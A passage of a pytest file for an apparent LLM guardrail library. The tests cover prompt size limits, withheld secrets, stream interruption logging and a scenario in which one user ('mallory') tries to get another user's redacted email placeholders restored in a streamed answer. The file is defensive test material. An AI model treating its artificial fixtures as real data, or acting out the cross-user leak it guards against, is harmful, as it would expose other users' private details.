    assert last.input["text_chars"] == len(answer)


@pytest.mark.parametrize("mode", MODES)
def test_a_prompt_over_the_size_limit_is_denied_on_the_span_and_in_the_log(
    make: Callable[..., Driven], mode: str
) -> None:
    driven = make(mode, max_text_chars=200)
    with pytest.raises(PolicyViolation) as info:
        driven("x" * 500)
    assert info.value.decision.rules == ("charter.limit_exceeded",)
    # the message names what was too long
    what = "tool arguments" if mode == "tool" else "the prompt"
    assert str(info.value).startswith(f"{what}: more than 200 characters"), str(info.value)
    assert driven.received == []
    [span] = driven.call_spans()
    attributes = span.attributes or {}
    assert attributes[sc.ACTION] == "deny"
    assert attributes[sc.RULES] == ("charter.limit_exceeded",)
    [record] = driven.records()
    assert record.result["action"] == "deny" and "x" * 200 not in record.model_dump_json()


@pytest.mark.parametrize("mode", ["sync", "async"])
def test_a_withheld_answer_is_explained_with_the_policys_own_message(
    make: Callable[..., Driven], mode: str
) -> None:
    driven = make(mode, answer=lambda t: "the secret is 42")
    with pytest.raises(PolicyViolation) as info:
        driven("hello")
    [violation] = info.value.decision.violations
    assert (violation.rule, violation.message) == ("t.secret", "withheld")


@pytest.mark.parametrize("mode", STREAMS)
def test_another_users_placeholders_in_a_stream_stay_and_are_recorded_once(
    make: Callable[..., Driven], mode: str
) -> None:
    """Placeholders restore only for the principal that made them; a streamed answer
    releases them window by window, and the refusal is recorded once for the call."""
    leak = "Your other address is <EMAIL_ADDRESS_2>. " * 12  # several windows, one in each
    other = "a.yilmaz@work.example"
    driven = make(mode, answer=lambda t: leak)
    with context(user="u-alice", conversation="c-1"):  # issues placeholders 1 and 2
        assert other in "".join(driven.emitted(f"mail me at {EMAIL} or {other}")[0])
    with context(user="u-mallory", conversation="c-1"):  # issues her own 1 only
        chunks, error = driven.emitted("mail me at mallory@evil.example")
    assert error is None and "".join(chunks) == leak  # the placeholders, not alice's address
    refused = [r for r in driven.records() if "cross_principal_restore" in str(r.result)]
    assert len(refused) == 1
    mallory = driven.call_spans()[-1]
    assert "charter.pii.cross_principal_restore" in (mallory.attributes or {})[sc.RULES]


@pytest.mark.parametrize("mode", STREAMS)
def test_a_stream_its_reader_stops_records_what_was_shown(
    make: Callable[..., Driven], mode: str
) -> None:
    """A reader that stops early (a client gone, a stop button) never lets the stream reach
    its end, where the whole answer is recorded; the text it was shown is recorded instead
    (found by probing: the log held the input stage only)."""
    answer = "fine. " * 60  # longer than the window
    driven = make(mode, answer=lambda t: answer)

    async def first_then_close() -> str:
        stream = driven.fn("hello")
        chunk = await anext(stream)
        await stream.aclose()
        return str(chunk)

    if mode == "stream":
        stream = driven.fn("hello")
        shown = next(stream)
        stream.close()
    else:
        shown = asyncio.run(first_then_close())
    assert shown and answer.startswith(shown)
    [output] = [r for r in driven.records() if r.labels["stage"] == "output"]  # main: none
    assert output.labels["stream"] == "closed_early"
    assert len(shown) <= output.input["text_chars"] < len(answer)  # what was released


def _broken_off(driven: Driven, text: str, end: Callable[[], Any]) -> Any:
    """A guarded stream of `text`, in `driven`'s mode, whose model then calls `end` (which
    raises, or waits for ever) instead of ending."""
    guard = driven.charter.guard(model="m", provider="openai")
    if driven.mode == "stream":

        def stream(prompt: str) -> Iterator[str]:
            for i in range(0, len(text), 5):
                yield text[i : i + 5]
            end()

        return guard(stream)

    async def astream(prompt: str) -> Any:
        for i in range(0, len(text), 5):
            yield text[i : i + 5]
        await end()

    return guard(astream)


def _interrupted_output(driven: Driven) -> Any:
    [output] = [r for r in driven.records() if r.labels["stage"] == "output"]  # main: none
    return output


@pytest.mark.parametrize(
    ("mode", "error"),
    # A KeyboardInterrupt stops an event loop, which cancels the reader: the test below.
    [("stream", ConnectionError), ("stream", KeyboardInterrupt), ("astream", ConnectionError)],
)
def test_a_stream_the_model_breaks_off_records_what_was_shown(
    make: Callable[..., Driven], mode: str, error: type[BaseException]
) -> None:
    """Found by probing: a stream ended by the model's error (a dropped connection, a
    Ctrl-C) after text was shown recorded nothing of that text: only a reader's stopping
    was recorded. It is recorded as `interrupted`; the error reaches the reader unchanged."""
    driven = make(mode)
    raised = error("the connection dropped")

    def breaks() -> Any:
        raise raised

    async def abreaks() -> Any:
        raise raised

    fn = _broken_off(driven, "fine. " * 60, breaks if mode == "stream" else abreaks)
    shown: list[str] = []

    async def read() -> None:
        async for chunk in fn("hello"):
            shown.append(chunk)

    with pytest.raises(error) as info:
        if mode == "stream":
            for chunk in fn("hello"):
                shown.append(chunk)
        else:
            asyncio.run(read())
    assert info.value is raised
    output = _interrupted_output(driven)
    assert output.labels["stream"] == "interrupted"
    assert output.labels["stream_error"] == error.__name__
    assert output.input["text_chars"] == len("".join(shown)) > 0  # what was released


def test_a_stream_interrupted_in_a_windows_check_records_what_was_shown(
    make: Callable[..., Driven],
) -> None:
    """Found by review: a Ctrl-C landing while a sync stream's window was checked (scoring,
    the policy), after text was shown, recorded nothing: only the wait for the model's next
    chunk was covered. A Ctrl-C there is likelier than anywhere, the check being the work."""
    scored = 0

    def interrupts_once(text: str) -> float:
        nonlocal scored
        scored += 1
        if scored == 12:  # the input's, then windows that released text
            raise KeyboardInterrupt
        return 0.0

    driven = make("stream", signals=SignalSet([CallableSignal("ctrl_c", interrupts_once)]))
    fn = _broken_off(driven, "The weather is sunny and warm. " * 40, lambda: None)
    shown: list[str] = []
    with pytest.raises(KeyboardInterrupt):
        for chunk in fn("hello"):
            shown.append(chunk)
    output = _interrupted_output(driven)
    assert output.labels["stream"] == "interrupted"
    assert output.labels["stream_error"] == "KeyboardInterrupt"
    assert output.input["text_chars"] == len("".join(shown)) > 0


def test_an_async_stream_cancelled_while_the_model_stalls_records_what_was_shown(
    make: Callable[..., Driven],
) -> None:
    """Found by probing: a reader's task cancelled (`asyncio.wait_for` timing out) while
    the model's next chunk was awaited recorded nothing of the text already shown."""
    driven = make("astream")
    shown: list[str] = []

    async def main() -> None:
        stalled = asyncio.Event()

        async def stall() -> None:
            stalled.set()
            await asyncio.Event().wait()  # the model never sends the next chunk

        fn = _broken_off(driven, "fine. " * 60, stall)

        async def read() -> None:
            async for chunk in fn("hello"):
                shown.append(chunk)

        reader = asyncio.create_task(read())
        await stalled.wait()  # every chunk before the stall has reached the reader
        reader.cancel()
        with pytest.raises(asyncio.CancelledError):
            await reader

    asyncio.run(main())
    output = _interrupted_output(driven)
    assert (output.labels["stream"], output.labels["stream_error"]) == (
        "interrupted",
        "CancelledError",
    )
    assert output.input["text_chars"] == len("".join(shown)) > 0
